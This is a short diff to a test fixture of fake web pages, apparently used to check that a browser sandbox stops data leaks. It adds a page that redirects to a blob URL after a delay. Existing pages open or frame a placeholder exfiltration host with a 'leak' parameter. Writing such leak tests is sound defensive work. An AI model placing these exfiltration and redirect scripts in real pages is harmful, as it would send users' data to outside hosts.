@@ -95,6 +95,9 @@ SITE_PAGES: dict[str, Page] = {
     "/open": _page("<h1>Opener</h1><script>window.open('{exfil}/open?leak=1')</script>"),
     "/iframe": _page("<h1>Frames</h1><iframe src='{exfil}/frame'></iframe>"
                      "<iframe src='data:text/html,<p>framed data secret</p>'></iframe>"),
+    "/blob-later": _page("<h1>Later</h1><script>setTimeout(() => {{ location.href = "
+                         "URL.createObjectURL(new Blob(['<p>late blob secret</p>'], "
+                         "{{type: 'text/html'}})) }}, 150)</script>"),
     "/blob": _page("<h1>Blob</h1><script>location.href = URL.createObjectURL("
                    "new Blob(['<p>blob secret</p>'], {{type: 'text/html'}}))</script>"),
 }
